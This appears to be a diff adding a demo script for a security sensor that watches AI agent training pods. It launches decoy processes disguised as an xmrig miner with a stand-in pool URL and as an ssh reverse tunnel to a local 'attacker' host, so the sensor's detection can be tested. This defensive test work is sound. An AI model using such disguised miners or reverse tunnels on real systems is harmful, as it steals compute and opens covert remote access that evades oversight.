@@ -1,0 +1,104 @@
+"""One demo "pod": pid 1 of its own pid, network and mount namespaces (`unshare --net --pid --fork --mount-proc
+--kill-child`), started by `trainguard demo` for one worker of the AgentTrainingJob.
+
+It plays the workload (real processes, real sockets) and runs the REAL sensor beside it, as the pod's sidecar would:
+
+- a trainer (`python3`, sleeping in a training loop) from the start;
+- the sensor, bound to the pod's IP (on this namespace's own loopback; the demo forwards the host's pod IP to it);
+- on `miner`: a process named `xmrig` (a symlink to the interpreter, so the kernel's comm is `xmrig`), the one that
+  the replayed GPU trace puts on GPU 0;
+- on `tunnel`: a process named `ssh` whose command line is a reverse forward (`ssh -N -R ...`), holding a real TCP
+  connection to the "attacker" listener at ATTACKER:22 (another network namespace, joined by a veth pair the demo
+  creates; nothing leaves the machine).
+
+The demo asks for a phase by creating the file `<workdir>/<phase>` (`miner`, `tunnel`); the player writes
+`<workdir>/state.json` (pids, times) after each step. Pure standard library: it runs before anything else is set up.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+from typing import Any
+
+#: What the trainer does: a training loop that mostly waits (the machine is shared).
+TRAINER = "import time\nwhile True:\n    sum(i * i for i in range(20000))\n    time.sleep(0.2)\n"
+#: What the miner does: a hash loop that mostly waits, named xmrig.
+MINER = (
+    "import hashlib, time\nh = b'rome'\nwhile True:\n"
+    "    for _ in range(2000):\n        h = hashlib.sha256(h).digest()\n    time.sleep(0.2)\n"
+)
+#: The tunnel: one TCP connection to the attacker, kept established, a few bytes a second each way.
+TUNNEL = (
+    "import socket, sys, time\n"
+    "s = socket.create_connection((sys.argv[-1].split('@')[1], 22), timeout=10)\n"
+    "s.settimeout(None)\n"
+    "while True:\n    s.sendall(b'tunnel keepalive\\n')\n    s.recv(4096)\n    time.sleep(1)\n"
+)
+
+
+def _write_state(work: Path, state: dict[str, Any]) -> None:
+    tmp = work / "state.json.tmp"
+    tmp.write_text(json.dumps(state))
+    tmp.replace(work / "state.json")
+
+
+def _named(work: Path, name: str) -> str:
+    """A path whose basename is `name` and that runs this interpreter (the kernel's comm is the basename)."""
+    link = work / "bin" / name
+    link.parent.mkdir(exist_ok=True)
+    if not link.exists():
+        link.symlink_to(sys.executable)
+    return str(link)
+
+
+def main(argv: list[str]) -> int:
+    work, attacker = Path(argv[0]), argv[1]
+    sensor_argv: list[str] = json.loads(argv[2])
+    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
+    children: list[subprocess.Popen[bytes]] = []
+
+    def stop(_signum: int, _frame: object) -> None:
+        for child in children:
+            child.kill()
+        sys.exit(0)
+
+    signal.signal(signal.SIGTERM, stop)
+    log = (work / "pod.log").open("ab")
+    state: dict[str, Any] = {"started": time.time()}
+    trainer = subprocess.Popen([_named(work, "python3"), "-u", "-c", TRAINER, "train.py", "--env", "sandbox"])
+    children.append(trainer)
+    state["trainer"] = trainer.pid
+    sensor = subprocess.Popen(sensor_argv, stdout=log, stderr=log)
+    children.append(sensor)
+    state["sensor"] = sensor.pid
+    _write_state(work, state)
+    while True:
+        for child in children:
+            if child.poll() is not None and child is sensor:
+                state["sensorExited"] = child.returncode
+                _write_state(work, state)
+        if "miner" not in state and (work / "miner").exists():
+            miner = subprocess.Popen(
+                [_named(work, "xmrig"), "-c", MINER, "-o", "stratum+tcp://pool.minexmr.example:4444", "--cuda"]
+            )
+            children.append(miner)
+            state["miner"], state["minerAt"] = miner.pid, time.time()
+            _write_state(work, state)
+        if "tunnel" not in state and (work / "tunnel").exists():
+            tunnel = subprocess.Popen(
+                [_named(work, "ssh"), "-c", TUNNEL, "-N", "-R", "2222:localhost:22", f"agent@{attacker}"]
+            )
+            children.append(tunnel)
+            state["tunnel"], state["tunnelAt"] = tunnel.pid, time.time()
+            _write_state(work, state)
+        time.sleep(0.05)
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv[1:]))
